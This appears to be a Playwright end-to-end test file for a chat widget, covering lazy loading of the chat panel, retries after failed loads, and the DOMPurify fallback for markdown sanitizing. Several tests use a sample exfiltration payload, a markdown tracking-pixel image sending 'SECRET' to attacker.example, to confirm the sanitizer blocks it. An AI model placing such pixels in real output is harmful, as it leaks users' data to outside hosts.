"""The panel chunk (the panel, markdown and the one sanitizer's policy) loads when the chat
first opens, or as soon as the visitor is about to open it; a browser without the HTML Sanitizer
API loads DOMPurify (the purify chunk) after it: until that arrives, and for good if it cannot
load, every text is plain text; once it arrives, what was shown is drawn again as markdown."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, Page, Request, Route, expect

from .conftest import BUNDLE, Backend, HostServer
from .helpers import finished_answer, held_route, open_chat, send, settled

pytestmark = pytest.mark.e2e
Backends = Callable[..., Backend]
PURIFY = "**/widget/purify.js"


def widget_requests(page: Page) -> list[Request]:
    seen: list[Request] = []
    page.on("request", lambda r: seen.append(r) if "/widget/" in r.url else None)
    return seen


def test_a_visitor_who_never_opens_the_chat_downloads_only_the_core(
    page: Page, host: HostServer, backends: Backends
) -> None:
    bot = backends("yes_man_placeholder")
    chunks = widget_requests(page)
    with page.expect_response(f"{bot.url}/api/config"):
        page.goto(host.add(bot.url))
    expect(page.get_by_role("button", name="Open chat")).to_be_visible()
    settled(page)  # a chunk requested once the config arrived would have been reported by now
    assert chunks == []
    with page.expect_request(f"{bot.url}/widget/panel.js"):
        open_chat(page)
    expect(page.locator(".placeholder strong")).to_have_text("Your Personal Yes-Man")
    assert [request.url for request in chunks] == [f"{bot.url}/widget/panel.js"]


def test_the_panel_starts_loading_when_the_visitor_is_about_to_open_it(
    page: Page, host: HostServer, backends: Backends
) -> None:
    bot = backends("echo")
    page.goto(host.add(bot.url))
    launcher = page.get_by_role("button", name="Open chat")
    expect(launcher).to_be_visible()
    with page.expect_response(f"{bot.url}/widget/panel.js"):
        launcher.hover()
    expect(page.locator(".panel")).to_have_count(1)  # drawn, still closed
    expect(page.locator(".panel")).to_be_hidden()
    launcher.click()
    expect(page.get_by_role("dialog")).to_be_visible()
    expect(page.get_by_role("textbox", name="Message")).to_be_focused()


def test_a_panel_that_cannot_load_is_tried_again_on_the_next_click(
    page: Page, host: HostServer, backends: Backends
) -> None:
    bot = backends("echo")
    refused: list[str] = []

    def refuse(route: Route) -> None:
        refused.append(route.request.url)
        route.abort()

    page.route("**/widget/panel.js", refuse)
    page.goto(host.add(bot.url))
    launcher = page.get_by_role("button", name="Open chat")
    launcher.click()
    expect(launcher).to_have_attribute("title", re.compile(r"\S"))
    expect(page.locator(".panel")).to_have_count(0)
    assert refused
    page.unroute("**/widget/panel.js")
    launcher.click()
    expect(page.get_by_role("dialog")).to_be_visible()
    send(page, "again")
    expect(finished_answer(page)).to_contain_text("You said: again")


# What a browser without the HTML Sanitizer API looks like (Safari, older Firefox and Chrome).
NO_SANITIZER_API = (
    "delete Document.parseHTML; delete Element.prototype.setHTML; delete window.Sanitizer;"
)


@pytest.mark.parametrize("api", [True, False], ids=["sanitizer-api", "without-it"])
def test_dompurify_comes_only_to_browsers_without_the_sanitizer_api(
    api: bool, page: Page, host: HostServer, backends: Backends
) -> None:
    """The one sanitizer runs on the browser's own where there is one (no purify chunk), on
    DOMPurify elsewhere; markdown renders the same, with its policy, either way."""
    if not api:
        page.add_init_script(NO_SANITIZER_API)
    chunks = widget_requests(page)
    page.goto(host.add(backends("markdown_bot").url))
    open_chat(page)
    send(page, "show me")
    answer = finished_answer(page).locator(".md")
    expect(answer.locator("h2")).to_have_text("Results")
    expect(answer.locator("table")).to_have_count(1)
    expect(answer.locator("img[src^='https://attacker']")).to_have_count(0)
    names = [request.url.rsplit("/", 1)[-1] for request in chunks]
    assert "panel.js" in names
    assert ("purify.js" in names) is not api, names
    assert page.evaluate("typeof Sanitizer") == ("function" if api else "undefined")


def test_texts_are_plain_until_the_sanitizer_arrives(
    page: Page, host: HostServer, backends: Backends
) -> None:
    page.add_init_script(NO_SANITIZER_API)
    held: list[Route] = []
    page.route(PURIFY, lambda route: held.append(route))
    page.goto(host.add(backends("yes_man_placeholder").url))
    open_chat(page)
    placeholder = page.locator(".placeholder")
    expect(placeholder).to_have_text("<strong>Your Personal Yes-Man</strong><br>Ask Me Anything")
    expect(placeholder.locator("*")).to_have_count(0)
    held_route(page, held).continue_()
    expect(placeholder.locator("strong")).to_have_text("Your Personal Yes-Man")
    expect(placeholder).to_have_class("placeholder md")

    # A markdown answer shown before DOMPurify arrives is drawn again once it does.
    held.clear()
    page.goto(host.add(backends("markdown_bot").url))
    open_chat(page)
    send(page, "show me")
    answer = finished_answer(page).locator(".md")
    expect(answer).to_contain_text("## Results")
    expect(answer).to_have_class("md plain")
    expect(answer.locator("*")).to_have_count(0)
    held_route(page, held).continue_()
    expect(answer.locator("h2")).to_have_text("Results")
    expect(answer.locator("table")).to_have_count(1)
    expect(answer.locator("img[src^='https://attacker']")).to_have_count(0)


def test_without_a_sanitizer_texts_stay_plain(
    page: Page, host: HostServer, backends: Backends
) -> None:
    page.add_init_script(NO_SANITIZER_API)
    page.route(PURIFY, lambda route: route.abort())
    bot = backends("markdown_bot")
    page.goto(host.add(bot.url))
    open_chat(page)
    send(page, "show me")
    answer = finished_answer(page).locator(".md")
    expect(answer).to_contain_text("| chatbubble | 1 |")
    expect(answer).to_contain_text("![tracker](https://attacker.example/pixel.png?d=SECRET)")
    expect(answer.locator("*")).to_have_count(0)
    send(page, "again")
    expect(page.locator(".msg.bot")).to_have_count(2)
    expect(finished_answer(page).locator(".md")).to_contain_text("## Results")
    expect(page.locator(".md *")).to_have_count(0)


def test_an_inline_chat_whose_panel_cannot_load_says_so_and_tries_again(
    page: Page, host: HostServer, backends: Backends
) -> None:
    bot = backends("echo")
    page.route("**/widget/panel.js", lambda route: route.abort())
    page.goto(
        host.add(
            bot.url,
            attrs='data-mode="inline" data-target="#help"',
            body='<div id="help" style="height:400px"></div>',
        )
    )
    alert = page.get_by_role("alert")
    expect(alert).to_contain_text("Can't reach the chat server")
    page.unroute("**/widget/panel.js")
    alert.get_by_role("button", name="Retry").click()
    expect(page.get_by_role("alert")).to_have_count(0)
    expect(page.get_by_role("region")).to_be_visible()
    send(page, "back")
    expect(finished_answer(page)).to_contain_text("You said: back")


def test_a_panel_of_other_lent_code_than_the_pages_core_fails_cleanly(
    browser: Browser, host: HostServer, backends: Backends
) -> None:
    """A panel built on other lent code than the core the page runs (a deploy changed it while
    the browser served its cached core) finds no lent modules: it stops with one warning rather
    than throwing into the page, the launcher says the chat is unreachable, and the panel that
    matches the core loads on the next click. (Its own context: the warning is expected.)"""
    bot = backends("echo")
    panel = (BUNDLE.parent / "chunks" / "panel.js").read_text(encoding="utf-8")
    other = re.sub(r"libs(\.|\[\")[0-9a-f]{12}", r"libs\g<1>zzzzzzzzzzzz", panel, count=1)
    assert other != panel
    context = browser.new_context()
    try:
        page = context.new_page()
        uncaught: list[str] = []
        warnings: list[str] = []
        page.on("pageerror", lambda error: uncaught.append(str(error)))
        page.on("console", lambda message: warnings.append(message.text))
        page.route(
            "**/widget/panel.js",
            lambda route: route.fulfill(
                body=other,
                content_type="text/javascript",
                headers={"Access-Control-Allow-Origin": "*"},
            ),
        )
        page.goto(host.add(bot.url))
        launcher = page.get_by_role("button", name="Open chat")
        launcher.click()
        expect(launcher).to_have_attribute("title", re.compile(r"\S"))
        expect(page.locator(".panel")).to_have_count(0)
        assert [w for w in warnings if w.startswith("chatbubble:")], warnings
        page.unroute("**/widget/panel.js")
        launcher.click()
        expect(page.get_by_role("dialog")).to_be_visible()
        assert uncaught == []
    finally:
        context.close()
